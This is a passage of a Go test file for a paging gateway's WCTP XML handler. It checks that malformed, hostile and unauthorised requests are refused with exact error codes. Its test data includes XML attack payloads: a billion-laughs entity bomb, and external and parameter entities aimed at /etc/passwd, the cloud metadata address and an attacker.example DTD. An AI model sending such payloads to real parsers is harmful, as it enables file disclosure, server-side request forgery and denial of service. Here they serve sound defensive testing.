package wctp

import (
	"bytes"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strings"
	"testing"

	"pagebridge/gateway/paging"
)

// TestRefused drives malformed, hostile and refused requests through the
// handler: each must get its exact HTTP status and WCTP code, and none may
// reach the Accepter.
func TestRefused(t *testing.T) {
	sr := readTestdata(t, "submitrequest-v1r3.xml")
	cm := readTestdata(t, "submitclientmessage-v1r3.xml")
	const doctype = `<!DOCTYPE wctp-Operation SYSTEM "http://dtd.wctp.org/wctp-dtd-v1r3.dtd">`
	op := func(inner string) string {
		return `<?xml version="1.0" encoding="UTF-8"?>` + "\n" + doctype + "\n" +
			`<wctp-Operation wctpVersion="wctp-dtd-v1r3">` + inner + `</wctp-Operation>`
	}
	text := "Rm 12 PATIENT-SMITH &amp; bed 2 call light"
	deep := strings.Repeat("<wctp-Alphanumeric>", 20) + strings.Repeat("</wctp-Alphanumeric>", 20)

	tests := []struct {
		name        string
		method      string // default POST
		contentType string // default text/xml
		body        string
		edit        func(*env)
		chunked     bool // send without Content-Length
		wantStatus  int
		wantCode    int    // 0: not a WCTP reply
		wantClient  bool   // failure wrapped in wctp-SubmitClientResponse
		wantWrap    string // failure wrapped in this query operation's response
	}{
		// HTTP level.
		{name: "GET", method: http.MethodGet, body: "", wantStatus: 405},
		{name: "PUT", method: http.MethodPut, body: sr, wantStatus: 405},
		{name: "text/plain", contentType: "text/plain", body: sr, wantStatus: 415},
		{name: "no content type", contentType: "-", body: sr, wantStatus: 415},
		{name: "form content type", contentType: "application/x-www-form-urlencoded", body: sr, wantStatus: 415},
		{name: "bad media type", contentType: "text/xml/x", body: sr, wantStatus: 415},
		{name: "oversize body with length", body: replace(t, sr, text, strings.Repeat("x", 300<<10)), wantStatus: 413},
		{name: "oversize body chunked", body: replace(t, sr, text, strings.Repeat("x", 300<<10)), chunked: true, wantStatus: 413},

		// Not well-formed: 301.
		{name: "empty body", body: "", wantStatus: 200, wantCode: 301},
		{name: "white space body", body: " \r\n\t", wantStatus: 200, wantCode: 301},
		{name: "not XML", body: "PAGE 4711 " + phiMarker, wantStatus: 200, wantCode: 301},
		{name: "truncated", body: sr[:len(sr)/2], wantStatus: 200, wantCode: 301},
		{name: "mismatched tag", body: replace(t, sr, "</wctp-Payload>", "</wctp-Paylod>"), wantStatus: 200, wantCode: 301},
		{name: "invalid UTF-8", body: replace(t, sr, "Rm 12", "Rm \xff\xfe12"), wantStatus: 200, wantCode: 301},
		{name: "overlong UTF-8", body: replace(t, sr, "Rm 12", "Rm \xc0\xaf12"), wantStatus: 200, wantCode: 301},
		{name: "raw control character", body: replace(t, sr, "Rm 12", "Rm \x0712"), wantStatus: 200, wantCode: 301},
		{name: "NUL", body: replace(t, sr, "Rm 12", "Rm \x0012"), wantStatus: 200, wantCode: 301},
		{name: "control character reference", body: replace(t, sr, "Rm 12", "Rm &#x1B;12"), wantStatus: 200, wantCode: 301},
		{name: "declared Latin-1", body: replace(t, sr, `encoding="UTF-8"`, `encoding="ISO-8859-1"`), wantStatus: 200, wantCode: 301},
		{name: "UTF-16 bytes", body: "\xff\xfe<\x00?\x00x\x00m\x00l\x00", wantStatus: 200, wantCode: 301},
		{name: "undeclared entity", body: replace(t, sr, "Rm 12", "Rm &xxe;12"), wantStatus: 200, wantCode: 301},
		{name: "second root element", body: sr + "<wctp-Operation/>", wantStatus: 200, wantCode: 301},
		{name: "trailing garbage", body: sr + "garbage", wantStatus: 200, wantCode: 301},
		{name: "text before root", body: replace(t, sr, "<wctp-Operation ", "junk<wctp-Operation "), wantStatus: 200, wantCode: 301},
		{name: "repeated attribute", body: replace(t, sr, `recipientID="4711"`, `recipientID="4711" recipientID="8005551212"`), wantStatus: 200, wantCode: 301},
		{name: "unquoted attribute", body: replace(t, sr, `recipientID="4711"`, `recipientID=4711`), wantStatus: 200, wantCode: 301},

		// Entity tricks: refused at the DOCTYPE with 302, nothing expanded
		// or fetched.
		{name: "billion laughs", body: `<?xml version="1.0"?>
<!DOCTYPE wctp-Operation [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>` + replace(t, sr[strings.Index(sr, "<wctp-Operation "):], text, "&lol9;"), wantStatus: 200, wantCode: 302},
		{name: "external entity file", body: `<?xml version="1.0"?>
<!DOCTYPE wctp-Operation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			replace(t, sr[strings.Index(sr, "<wctp-Operation "):], text, "&xxe;"), wantStatus: 200, wantCode: 302},
		{name: "external entity http", body: `<!DOCTYPE wctp-Operation SYSTEM "http://dtd.wctp.org/wctp-dtd-v1r3.dtd" [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>` +
			replace(t, sr[strings.Index(sr, "<wctp-Operation "):], text, "&xxe;"), wantStatus: 200, wantCode: 302},
		{name: "parameter entity", body: `<!DOCTYPE wctp-Operation [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>` +
			sr[strings.Index(sr, "<wctp-Operation "):], wantStatus: 200, wantCode: 302},
		{name: "empty internal subset", body: replace(t, sr, doctype, `<!DOCTYPE wctp-Operation []>`), wantStatus: 200, wantCode: 302},
		{name: "DOCTYPE for another root", body: replace(t, sr, doctype, `<!DOCTYPE html>`), wantStatus: 200, wantCode: 302},
		{name: "two DOCTYPEs", body: replace(t, sr, doctype, doctype+doctype), wantStatus: 200, wantCode: 302},
		{name: "bare ENTITY directive", body: replace(t, sr, doctype, `<!ENTITY x "y">`), wantStatus: 200, wantCode: 302},
		{name: "directive inside root", body: replace(t, sr, "<wctp-SubmitRequest>", "<wctp-SubmitRequest><!ENTITY x 'y'>"), wantStatus: 200, wantCode: 302},

		// Valid XML, invalid WCTP: 302.
		{name: "wrong root", body: `<?xml version="1.0"?><html><body>hi</body></html>`, wantStatus: 200, wantCode: 302},
		{name: "namespaced root", body: replace(t, replace(t, sr, "<wctp-Operation ", `<w:wctp-Operation xmlns:w="urn:x" `), "</wctp-Operation>", "</w:wctp-Operation>"), wantStatus: 200, wantCode: 302},
		{name: "missing wctpVersion", body: replace(t, sr, ` wctpVersion="wctp-dtd-v1r3"`, ""), wantStatus: 200, wantCode: 302},
		{name: "empty operation", body: op(""), wantStatus: 200, wantCode: 302},
		{name: "two operations", body: op("<wctp-ClientQuery/><wctp-ClientQuery/>"), wantStatus: 200, wantCode: 302},
		{name: "unknown operation", body: op("<wctp-Teleport/>"), wantStatus: 200, wantCode: 302},
		{name: "missing messageID", body: replace(t, sr, `messageID="4W-0001" `, ""), wantStatus: 200, wantCode: 302},
		{name: "empty messageID", body: replace(t, sr, `messageID="4W-0001"`, `messageID=""`), wantStatus: 200, wantCode: 302},
		{name: "overlong messageID", body: replace(t, sr, `messageID="4W-0001"`, `messageID="`+strings.Repeat("m", 129)+`"`), wantStatus: 200, wantCode: 302},
		{name: "missing recipient element", body: replace(t, sr, `<wctp-Recipient recipientID="4711"/>`, ""), wantStatus: 200, wantCode: 302},
		{name: "missing recipientID", body: replace(t, sr, `recipientID="4711"`, `authorizationCode="x"`), wantStatus: 200, wantCode: 302},
		{name: "two recipients", body: replace(t, sr, `<wctp-Recipient recipientID="4711"/>`, `<wctp-Recipient recipientID="4711"/><wctp-Recipient recipientID="8005551212"/>`), wantStatus: 200, wantCode: 302},
		{name: "missing originator", body: replace(t, sr, `<wctp-Originator senderID="nursecall-4w" securityCode="s3cret-4w"/>`, ""), wantStatus: 200, wantCode: 302},
		{name: "missing senderID", body: replace(t, sr, `senderID="nursecall-4w" `, ""), wantStatus: 200, wantCode: 302},
		{name: "no payload element", body: replace(t, replace(t, sr, "<wctp-Payload>", ""), "</wctp-Payload>", ""), wantStatus: 200, wantCode: 302},
		{name: "unknown payload", body: replace(t, replace(t, sr, "<wctp-Alphanumeric>", "<wctp-Numeric>"), "</wctp-Alphanumeric>", "</wctp-Numeric>"), wantStatus: 200, wantCode: 302},
		{name: "element in text", body: replace(t, sr, "Rm 12", "Rm <b>12</b>"), wantStatus: 200, wantCode: 302},
		{name: "text in header", body: replace(t, sr, `<wctp-Recipient recipientID="4711"/>`, `stray<wctp-Recipient recipientID="4711"/>`), wantStatus: 200, wantCode: 302},
		{name: "content in EMPTY element", body: replace(t, sr, `<wctp-Recipient recipientID="4711"/>`, `<wctp-Recipient recipientID="4711">x</wctp-Recipient>`), wantStatus: 200, wantCode: 302},
		{name: "bad deliveryPriority", body: replace(t, sr, `deliveryPriority="HIGH"`, `deliveryPriority="URGENT"`), wantStatus: 200, wantCode: 302},
		{name: "DEL in text", body: replace(t, sr, "Rm 12", "Rm &#x7F;12"), wantStatus: 200, wantCode: 302},
		{name: "C1 control in text", body: replace(t, sr, "Rm 12", "Rm \u008512"), wantStatus: 200, wantCode: 302},
		{name: "newline in recipientID", body: replace(t, sr, `recipientID="4711"`, `recipientID="47&#xA;11"`), wantStatus: 200, wantCode: 302},
		{name: "nested too deeply", body: replace(t, sr, "<wctp-Alphanumeric>Rm 12", deep+"<wctp-Alphanumeric>Rm 12"), wantStatus: 200, wantCode: 302},

		// Version.
		{name: "unknown version", body: replace(t, sr, `wctpVersion="wctp-dtd-v1r3"`, `wctpVersion="wctp-dtd-v2r0"`), wantStatus: 200, wantCode: 303},
		{name: "empty version", body: replace(t, sr, `wctpVersion="wctp-dtd-v1r3"`, `wctpVersion=""`), wantStatus: 200, wantCode: 303},

		// Other operations.
		{name: "ClientQuery without a tracker", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="4711" trackingNumber="1"/>`),
			edit: func(e *env) { e.h.tracker = nil }, wantStatus: 200, wantCode: 300, wantWrap: "wctp-ClientQueryResponse"},
		{name: "PollForMessages without a tracker", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"/>`),
			edit: func(e *env) { e.h.tracker = nil }, wantStatus: 200, wantCode: 300, wantWrap: "wctp-PollResponse"},
		{name: "SendMsgMulti", body: op(`<wctp-SendMsgMulti/>`), wantStatus: 200, wantCode: 300},
		{name: "LookupSubscriber", body: op(`<wctp-LookupSubscriber/>`), wantStatus: 200, wantCode: 300},

		// The query operations, malformed or refused.
		{name: "ClientQuery without trackingNumber", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="4711"/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery without recipientID", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" trackingNumber="1"/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery empty trackingNumber", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="4711" trackingNumber=""/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery overlong trackingNumber", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="4711" trackingNumber="` + strings.Repeat("1", 65) + `"/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery with content", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="4711" trackingNumber="1">x</wctp-ClientQuery>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery unknown client", body: op(`<wctp-ClientQuery senderID="someone" miscInfo="client-pw" recipientID="4711" trackingNumber="1"/>`), wantStatus: 200, wantCode: 401, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery sender as client", body: op(`<wctp-ClientQuery senderID="nursecall-4w" miscInfo="s3cret-4w" recipientID="4711" trackingNumber="1"/>`), wantStatus: 200, wantCode: 401, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery wrong password", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="guess" recipientID="4711" trackingNumber="1"/>`), wantStatus: 200, wantCode: 402, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery without password", body: op(`<wctp-ClientQuery senderID="answering-svc" recipientID="4711" trackingNumber="1"/>`), wantStatus: 200, wantCode: 402, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery unknown tracking number", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="4711" trackingNumber="nope"/>`), wantStatus: 200, wantCode: 504, wantWrap: "wctp-ClientQueryResponse"},
		{name: "ClientQuery tracker down", body: op(`<wctp-ClientQuery senderID="answering-svc" miscInfo="client-pw" recipientID="8005551212" trackingNumber="` + trackedID + `"/>`),
			edit: func(e *env) { e.tr.err = fmt.Errorf("disk: %w", paging.ErrTemporary) }, wantStatus: 200, wantCode: 604, wantWrap: "wctp-ClientQueryResponse"},
		{name: "PollForMessages without pollerID", body: op(`<wctp-PollForMessages securityCode="s3cret-4w"/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages unknown poller", body: op(`<wctp-PollForMessages pollerID="intruder" securityCode="s3cret-4w"/>`), wantStatus: 200, wantCode: 432, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages client as poller", body: op(`<wctp-PollForMessages pollerID="answering-svc" securityCode="client-pw"/>`), wantStatus: 200, wantCode: 432, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages wrong securityCode", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="guess"/>`), wantStatus: 200, wantCode: 432, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages without securityCode", body: op(`<wctp-PollForMessages pollerID="nursecall-4w"/>`), wantStatus: 200, wantCode: 432, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages zero batch", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w" maxMessagesInBatch="0"/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages batch not a number", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w" maxMessagesInBatch="ten"/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages unknown child", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"><wctp-Message sequenceNo="1"/></wctp-PollForMessages>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "MessageReceived without sequenceNo", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"><wctp-MessageReceived><wctp-Success successCode="200"/></wctp-MessageReceived></wctp-PollForMessages>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "MessageReceived empty", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"><wctp-MessageReceived sequenceNo="1"/></wctp-PollForMessages>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "MessageReceived two results", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"><wctp-MessageReceived sequenceNo="1"><wctp-Success successCode="200"/><wctp-Success successCode="200"/></wctp-MessageReceived></wctp-PollForMessages>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "MessageReceived other result", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"><wctp-MessageReceived sequenceNo="1"><wctp-NoMessages/></wctp-MessageReceived></wctp-PollForMessages>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-PollResponse"},
		{name: "PollForMessages tracker down", body: op(`<wctp-PollForMessages pollerID="nursecall-4w" securityCode="s3cret-4w"/>`),
			edit: func(e *env) { e.tr.err = errors.New("boom") }, wantStatus: 200, wantCode: 604, wantWrap: "wctp-PollResponse"},
		{name: "VersionQuery without inquirer", body: op(`<wctp-VersionQuery/>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-VersionResponse"},
		{name: "VersionQuery with content", body: op(`<wctp-VersionQuery inquirer="x"><wctp-ContactInfo/></wctp-VersionQuery>`), wantStatus: 200, wantCode: 302, wantWrap: "wctp-VersionResponse"},
		{name: "bad allowResponse", body: replace(t, sr, `allowResponse="false"`, `allowResponse="yes"`), wantStatus: 200, wantCode: 302},
		{name: "bad notifyWhenDelivered", body: replace(t, sr, `notifyWhenDelivered="true"`, `notifyWhenDelivered="1"`), wantStatus: 200, wantCode: 302},
		{name: "MessageReply", body: op(`<wctp-MessageReply/>`), wantStatus: 200, wantCode: 300},

		// Unsupported payloads.
		{name: "MCR payload", body: replace(t, sr, "<wctp-Alphanumeric>"+text+"</wctp-Alphanumeric>",
			"<wctp-MCR><wctp-MessageText>Come?</wctp-MessageText><wctp-Choice>Yes</wctp-Choice></wctp-MCR>"), wantStatus: 200, wantCode: 419},
		{name: "TransparentData payload", body: replace(t, sr, "<wctp-Alphanumeric>"+text+"</wctp-Alphanumeric>",
			"<wctp-TransparentData>AAEC</wctp-TransparentData>"), wantStatus: 200, wantCode: 430},

		// Credentials.
		{name: "unknown sender", body: replace(t, sr, `senderID="nursecall-4w"`, `senderID="intruder"`), wantStatus: 200, wantCode: 401},
		{name: "empty sender", body: replace(t, sr, `senderID="nursecall-4w"`, `senderID=""`), wantStatus: 200, wantCode: 401},
		{name: "client ID as sender", body: replace(t, sr, `senderID="nursecall-4w" securityCode="s3cret-4w"`, `senderID="answering-svc" securityCode="client-pw"`), wantStatus: 200, wantCode: 401},
		{name: "wrong securityCode", body: replace(t, sr, `securityCode="s3cret-4w"`, `securityCode="s3cret-4x"`), wantStatus: 200, wantCode: 402},
		{name: "securityCode prefix", body: replace(t, sr, `securityCode="s3cret-4w"`, `securityCode="s3cret"`), wantStatus: 200, wantCode: 402},
		{name: "missing securityCode", body: replace(t, sr, ` securityCode="s3cret-4w"`, ""), wantStatus: 200, wantCode: 402},
		{name: "client unknown", body: replace(t, cm, `senderID="answering-svc"`, `senderID="someone"`), wantStatus: 200, wantCode: 401, wantClient: true},
		{name: "client wrong password", body: replace(t, cm, `miscInfo="client-pw"`, `miscInfo="guess"`), wantStatus: 200, wantCode: 402, wantClient: true},
		{name: "client without password", body: replace(t, cm, ` miscInfo="client-pw"`, ""), wantStatus: 200, wantCode: 402, wantClient: true},
		{name: "client missing recipient", body: replace(t, cm, `<wctp-Recipient recipientID="8005551212"/>`, ""), wantStatus: 200, wantCode: 302, wantClient: true},
		{name: "client MCR", body: replace(t, replace(t, cm, "<wctp-Alphanumeric>", "<wctp-MCR><wctp-MessageText>"), "</wctp-Alphanumeric>", "</wctp-MessageText><wctp-Choice>OK</wctp-Choice></wctp-MCR>"), wantStatus: 200, wantCode: 419, wantClient: true},

		// Content.
		{name: "huge text", body: replace(t, sr, text, strings.Repeat("é", DefaultMaxTextLen+1)), wantStatus: 200, wantCode: 411},
		{name: "text over configured max", body: sr, edit: func(e *env) { e.h.maxText = 10 }, wantStatus: 200, wantCode: 411},
		{name: "empty recipient", body: replace(t, sr, `recipientID="4711"`, `recipientID=""`), wantStatus: 200, wantCode: 403},
		{name: "unknown recipient", body: replace(t, sr, `recipientID="4711"`, `recipientID="9999"`), wantStatus: 200, wantCode: 403},
		{name: "overlong recipient", body: replace(t, sr, `recipientID="4711"`, `recipientID="`+strings.Repeat("9", 65)+`"`), wantStatus: 200, wantCode: 403},
		{name: "client unknown recipient", body: replace(t, cm, `recipientID="8005551212"`, `recipientID="1"`), wantStatus: 200, wantCode: 403, wantClient: true},

		// Temporary failures.
		{name: "directory down", body: sr, edit: func(e *env) { e.dir.err = fmt.Errorf("ldap: %w", paging.ErrTemporary) }, wantStatus: 200, wantCode: 604},
		{name: "directory broken", body: sr, edit: func(e *env) { e.dir.err = errors.New("boom") }, wantStatus: 200, wantCode: 604},
	}
	if len(tests) < 20 {
		t.Fatalf("only %d cases", len(tests))
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, nil)
			if tt.edit != nil {
				tt.edit(e)
			}
			method := tt.method
			if method == "" {
				method = http.MethodPost
			}
			ct := tt.contentType
			switch ct {
			case "":
				ct = "text/xml"
			case "-":
				ct = ""
			}
			r := httptest.NewRequest(method, "/wctp", strings.NewReader(tt.body))
			if ct != "" {
				r.Header.Set("Content-Type", ct)
			}
			if tt.chunked {
				r.ContentLength = -1
			}
			w := httptest.NewRecorder()
			e.h.ServeHTTP(w, r)

			if w.Code != tt.wantStatus {
				t.Fatalf("status = %d, want %d; body %q", w.Code, tt.wantStatus, w.Body)
			}
			if strings.Contains(w.Body.String(), phiMarker) {
				t.Errorf("reply echoes page text: %s", w.Body)
			}
			if tt.wantCode == 0 {
				if ct := w.Header().Get("Content-Type"); strings.HasPrefix(ct, "text/xml") {
					t.Errorf("HTTP-level refusal with Content-Type %q", ct)
				}
				if tt.wantStatus == 405 && w.Header().Get("Allow") != "POST" {
					t.Errorf("Allow = %q, want POST", w.Header().Get("Allow"))
				}
			} else if tt.wantWrap != "" {
				if code := failureIn(t, w, tt.wantWrap); code != tt.wantCode {
					t.Errorf("failure code = %d, want %d:\n%s", code, tt.wantCode, w.Body)
				}
			} else {
				resp := wctpReply(t, w)
				if resp.Success || resp.Code != tt.wantCode {
					t.Errorf("reply = %+v, want failure %d", resp, tt.wantCode)
				}
				wrapper := "<wctp-Confirmation>"
				if tt.wantClient {
					wrapper = "<wctp-SubmitClientResponse>"
				}
				if !strings.Contains(w.Body.String(), wrapper) {
					t.Errorf("failure not wrapped in %s:\n%s", wrapper, w.Body)
				}
			}
			if n := e.acc.Calls(); n != 0 {
				t.Errorf("Accept called %d times", n)
			}
		})
	}
}

func TestAcceptSubmitRequest(t *testing.T) {
	var results [][2]int
	e := newEnv(t, func(c *Config) {
		c.OnResult = func(status, code int) { results = append(results, [2]int{status, code}) }
	})
	w := e.post(t, readTestdata(t, "submitrequest-v1r3.xml"))
	resp := wctpReply(t, w)
	if !resp.Success || resp.Code != 200 || resp.TrackingNumber != "" {
		t.Fatalf("reply = %+v", resp)
	}
	msgs, evs := e.acc.Messages()
	if len(msgs) != 1 {
		t.Fatalf("%d messages stored", len(msgs))
	}
	id := fixedID(testNow)
	want := paging.Message{
		ID: id,
		Source: paging.Source{
			Protocol: paging.ProtocolWCTP,
			Line:     "4W nurse call",
			Sender:   "nursecall-4w",
			Address:  "192.0.2.1:1234",
		},
		PagerID:   "4711",
		Priority:  paging.PriorityHigh,
		Text:      paging.NewPHI("Rm 12 PATIENT-SMITH & bed 2 call light"),
		SenderRef: "4W-0001",
		Received:  testNow,
	}
	if !reflect.DeepEqual(msgs[0], want) {
		t.Errorf("message =\n%#v\nwant\n%#v\ntext %q", msgs[0], want, msgs[0].Text.Reveal())
	}
	wantEv := paging.AuditEvent{
		Actor:  "wctp:nursecall-4w",
		Action: "message.accept",
		Object: "message/" + id.String(),
		Source: "192.0.2.1:1234",
	}
	if evs[0] != wantEv {
		t.Errorf("audit event = %+v, want %+v", evs[0], wantEv)
	}
	if !slices.Equal(results, [][2]int{{200, 200}}) {
		t.Errorf("OnResult calls = %v", results)
	}
	if !strings.Contains(e.log.String(), "wctp page accepted") {
		t.Errorf("accept not logged:\n%s", e.log)
	}
}

func TestAcceptSubmitClientMessage(t *testing.T) {
	e := newEnv(t, nil)
	w := e.post(t, readTestdata(t, "submitclientmessage-v1r3.xml"))
	resp := wctpReply(t, w)
	msgs, evs := e.acc.Messages()
	if len(msgs) != 1 {
		t.Fatalf("%d messages stored", len(msgs))
	}
	m := msgs[0]
	if !resp.Success || resp.Code != 200 || resp.TrackingNumber != m.ID.String() {
		t.Fatalf("reply = %+v, want tracking number %s", resp, m.ID)
	}
	if m.Source.Line != DefaultLine || m.Source.Sender != "answering-svc" || m.PagerID != "8005551212" ||
		m.SenderRef != "" || m.Priority != paging.PriorityNormal || m.Text.Reveal() != "Call Dr Lee re PATIENT-SMITH x4410" {
		t.Errorf("message = %#v (text %q)", m, m.Text.Reveal())
	}
	if evs[0].Actor != "wctp:answering-svc" {
		t.Errorf("actor = %q", evs[0].Actor)
	}
}

func TestAcceptVariants(t *testing.T) {
	sr := readTestdata(t, "submitrequest-v1r3.xml")
	cm := readTestdata(t, "submitclientmessage-v1r3.xml")
	tests := []struct {
		name, contentType, body string
		wantPriority            paging.Priority
		wantText                string
		wantVersion             string
	}{
		{name: "reference v1r1 example", body: readTestdata(t, "submitrequest-v1r1.xml"), wantText: "Testing 123", wantVersion: "wctp-dtd-v1r1"},
		{name: "application/xml", contentType: "application/xml", body: sr, wantPriority: paging.PriorityHigh},
		{name: "upper-case media type", contentType: "Text/XML; Charset=UTF-8", body: sr, wantPriority: paging.PriorityHigh},
		{name: "sloppy parameter", contentType: "text/xml; charset", body: sr, wantPriority: paging.PriorityHigh},
		{name: "charset parameter ignored", contentType: "text/xml; charset=ISO-8859-1", body: sr, wantPriority: paging.PriorityHigh},
		{name: "no DOCTYPE", body: replace(t, sr, `<!DOCTYPE wctp-Operation SYSTEM "http://dtd.wctp.org/wctp-dtd-v1r3.dtd">`, ""), wantPriority: paging.PriorityHigh},
		{name: "no XML declaration", body: replace(t, sr, `<?xml version="1.0" encoding="UTF-8"?>`, ""), wantPriority: paging.PriorityHigh},
		{name: "DOCTYPE with PUBLIC id", body: replace(t, sr, `SYSTEM "http://dtd.wctp.org/wctp-dtd-v1r3.dtd"`, `PUBLIC "-//WCTP//DTD 1.3//EN" 'http://dtd.wctp.org/wctp-dtd-v1r3.dtd'`), wantPriority: paging.PriorityHigh},
		{name: "DOCTYPE with file SYSTEM id never read", body: replace(t, sr, `"http://dtd.wctp.org/wctp-dtd-v1r3.dtd"`, `"file:///etc/passwd"`), wantPriority: paging.PriorityHigh},
		{name: "UTF-8 BOM", body: "\ufeff" + sr, wantPriority: paging.PriorityHigh},
		{name: "comments and PI", body: replace(t, sr, "<wctp-Payload>", "<!-- c --><?app x?><wctp-Payload>") + "<!-- end -->\n", wantPriority: paging.PriorityHigh},
		{name: "elements out of order", body: swap(t, sr, `<wctp-Originator senderID="nursecall-4w" securityCode="s3cret-4w"/>`, `<wctp-Recipient recipientID="4711"/>`), wantPriority: paging.PriorityHigh},
		{name: "priority NORMAL", body: replace(t, sr, `"HIGH"`, `"NORMAL"`), wantPriority: paging.PriorityNormal},
		{name: "priority LOW", body: replace(t, sr, `"HIGH"`, `"LOW"`), wantPriority: paging.PriorityNormal},
		{name: "priority absent", body: replace(t, sr, ` deliveryPriority="HIGH"`, ""), wantPriority: paging.PriorityNormal},
		{name: "priority lower case", body: replace(t, sr, `"HIGH"`, `" high "`), wantPriority: paging.PriorityHigh},
		{name: "client HIGH", body: replace(t, cm, `"NORMAL"`, `"HIGH"`), wantPriority: paging.PriorityHigh, wantText: "Call Dr Lee re PATIENT-SMITH x4410"},
		{name: "client without message control", body: replace(t, cm, `<wctp-ClientMessageControl deliveryPriority="NORMAL"/>`, ""), wantText: "Call Dr Lee re PATIENT-SMITH x4410"},
		{name: "version v1r2", body: replace(t, sr, `"wctp-dtd-v1r3"`, `"wctp-dtd-v1r2"`), wantPriority: paging.PriorityHigh, wantVersion: "wctp-dtd-v1r2"},
		{name: "version v1r0", body: replace(t, sr, `"wctp-dtd-v1r3"`, `"wctp-dtd-v1r0"`), wantPriority: paging.PriorityHigh, wantVersion: "wctp-dtd-v1r0"},
		{name: "version 1.0", body: replace(t, sr, `"wctp-dtd-v1r3"`, `"1.0"`), wantPriority: paging.PriorityHigh, wantVersion: "1.0"},
		{name: "version upper case", body: replace(t, sr, `"wctp-dtd-v1r3"`, `"WCTP-DTD-V1R3"`), wantPriority: paging.PriorityHigh},
		{name: "CDATA text", body: replace(t, sr, "Rm 12 PATIENT-SMITH &amp; bed 2 call light", "<![CDATA[Rm 12 PATIENT-SMITH & bed 2 call light]]>"), wantPriority: paging.PriorityHigh},
		{name: "empty text", body: replace(t, sr, "Rm 12 PATIENT-SMITH &amp; bed 2 call light", ""), wantPriority: paging.PriorityHigh, wantText: "-"},
		{name: "text at max length", body: replace(t, sr, "Rm 12 PATIENT-SMITH &amp; bed 2 call light", strings.Repeat("é", DefaultMaxTextLen)), wantPriority: paging.PriorityHigh, wantText: strings.Repeat("é", DefaultMaxTextLen)},
		{name: "multi-line text", body: replace(t, sr, "Rm 12 PATIENT-SMITH &amp; bed 2 call light", "line 1\r\n\tline 2&#xD;"), wantPriority: paging.PriorityHigh, wantText: "line 1\n\tline 2\r"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, nil)
			ct := tt.contentType
			if ct == "" {
				ct = "text/xml"
			}
			w := e.do(t, http.MethodPost, ct, tt.body)
			resp := wctpReply(t, w)
			if !resp.Success || resp.Code != 200 {
				t.Fatalf("reply = %+v", resp)
			}
			msgs, _ := e.acc.Messages()
			if len(msgs) != 1 {
				t.Fatalf("%d messages stored", len(msgs))
			}
			if msgs[0].Priority != tt.wantPriority {
				t.Errorf("priority = %v, want %v", msgs[0].Priority, tt.wantPriority)
			}
			wantText := tt.wantText
			switch wantText {
			case "":
				wantText = "Rm 12 PATIENT-SMITH & bed 2 call light"
			case "-":
				wantText = ""
			}
			if got := msgs[0].Text.Reveal(); got != wantText {
				t.Errorf("text = %q, want %q", got, wantText)
			}
			wantVersion := tt.wantVersion
			if wantVersion == "" {
				wantVersion = "wctp-dtd-v1r3"
			}
